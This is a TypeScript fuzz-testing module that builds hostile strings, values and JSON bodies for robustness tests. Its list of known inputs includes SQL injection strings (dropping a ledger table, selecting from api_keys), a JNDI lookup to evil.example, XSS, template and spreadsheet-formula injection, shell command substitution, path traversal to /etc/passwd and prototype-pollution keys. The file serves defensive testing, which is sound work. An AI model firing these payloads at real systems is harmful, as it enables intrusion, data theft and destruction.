import type { Random } from "../chaos/random.ts";

/** Texts that have broken something somewhere: quoting, encodings, numbers, paths, patterns, prototypes, times. */
const KNOWN: readonly string[] = [
  "' OR 1=1 --",
  "'; DROP TABLE ledger_entries; --",
  '" OR ""="',
  "') UNION SELECT secret FROM api_keys --",
  "1; SELECT pg_sleep(10)",
  "$1",
  "$$",
  "E'\\\\'",
  "\\",
  "\\x00",
  "{}",
  "{1,2}",
  '{"$gt":""}',
  "NULL",
  "%",
  "_",
  "%_%",
  "%s%n%x",
  "%00",
  "%ff%fe",
  "\u0000",
  "a\u0000b",
  "\u0001\u001f\u007f",
  "\r\nx-injected: 1",
  "\ud800",
  "\udfff\ud800",
  "\ufeff",
  "\u2028\u2029",
  "\u202emoc.elpmaxe",
  "🏴‍☠️👩‍👩‍👧‍👧",
  "İıſß",
  "Ω≈ç√∫",
  "",
  " ",
  "\t",
  ".",
  "..",
  "../../../etc/passwd",
  "..%2f..%2f",
  "/",
  "//",
  "org:",
  ":",
  "session:",
  "session:\u0000",
  "user:' OR 1=1",
  "key:key_0000000000000000",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "0",
  "-1",
  "-0",
  "1e309",
  "1e-400",
  "0x10",
  "NaN",
  "Infinity",
  "9007199254740993",
  "9223372036854775808",
  "-9223372036854775809",
  "99999999999999999999999999999999999999",
  "1.0000000000001",
  "1,5",
  "٣",
  "true",
  "0000-00-00T00:00:00Z",
  "9999-12-31T23:59:59.999999999Z",
  "+275760-09-13T00:00:00Z",
  "-271821-04-20T00:00:00Z",
  "2026-02-30T00:00:00Z",
  "2026-06-30T23:59:60Z",
  "2026-01-01T00:00:00+99:99",
  "infinity",
  "-infinity",
  "epoch",
  "now()",
  "(a+)+$",
  "*".repeat(40),
  "?".repeat(40),
  "[",
  "[a-",
  "{a,b",
  "**/**/**",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "=cmd|'/c calc'!A1",
  "`id`",
  "$(id)",
  'W/"1"',
  '"1", "2"',
  "*",
  "latest",
  "Mars/Olympus",
  "../UTC",
  "dlm_00000000000000000000000000000000",
  "dec_00000000000000000000000000000000",
  "dec_",
  "lim_%00",
  "kill_'",
];

/** One of them, or a few glued together, or chance alone; now and then longer than any field may be. */
export function hostileString(random: Random): string {
  const kind = random.next();
  if (kind < 0.5) return random.pick(KNOWN);
  if (kind < 0.7) return random.pick(KNOWN) + random.pick(KNOWN);
  if (kind < 0.95) return randomText(random, random.between(0, 40));
  return random.pick(["x", "é", "🌉", "'", "\\", "[", "*a"]).repeat(random.between(200, 2_000));
}

function randomText(random: Random, length: number): string {
  const top = random.pick([0x20, 0x7f, 0xff, 0xffff, 0x10ffff]);
  return Array.from({ length }, () => String.fromCodePoint(random.between(0, top))).join("");
}

/** What stands where something else is expected. */
export function hostileValue(random: Random, depth = 0): unknown {
  const kind = random.next();
  if (kind < 0.6) return hostileString(random);
  if (kind < 0.75)
    return random.pick([0, -1, -0, 1.5, 1e308, -1e308, 2 ** 53, 5e-324, true, false, null, [], {}, [[]], [null], ""]);
  if (depth > 3) return null;
  if (kind < 0.87) return Array.from({ length: random.between(1, 5) }, () => hostileValue(random, depth + 1));
  return ownProperties(
    Array.from({ length: random.between(1, 5) }, () => [hostileString(random), hostileValue(random, depth + 1)]),
  );
}

/** `__proto__` as a field of its own, as JSON has it. */
function ownProperties(entries: readonly (readonly [string, unknown])[]): object {
  const made = Object.create(null) as object;
  for (const [name, value] of entries)
    Object.defineProperty(made, name, { value, enumerable: true, configurable: true, writable: true });
  return made;
}

/** `body` with one of its fields, at any depth, replaced, removed, renamed or joined by another. */
export function hostileBody(random: Random, body: unknown): unknown {
  if (typeof body !== "object" || body === null || random.next() < 0.1) return hostileValue(random);
  if (Array.isArray(body)) {
    const at = random.between(0, body.length);
    return [...body.slice(0, at), hostileBody(random, body[at] ?? null), ...body.slice(at + 1)];
  }
  const entries = Object.entries(body);
  const at = random.between(0, entries.length);
  const [name, value] = entries[at] ?? [hostileString(random), null];
  const kind = random.next();
  const changed: readonly [string, unknown][] =
    kind < 0.1 ? [] : kind < 0.2 ? [[hostileString(random), value]] : [[name, hostileBody(random, value)]];
  return ownProperties([...entries.slice(0, at), ...changed, ...entries.slice(at + 1)]);
}
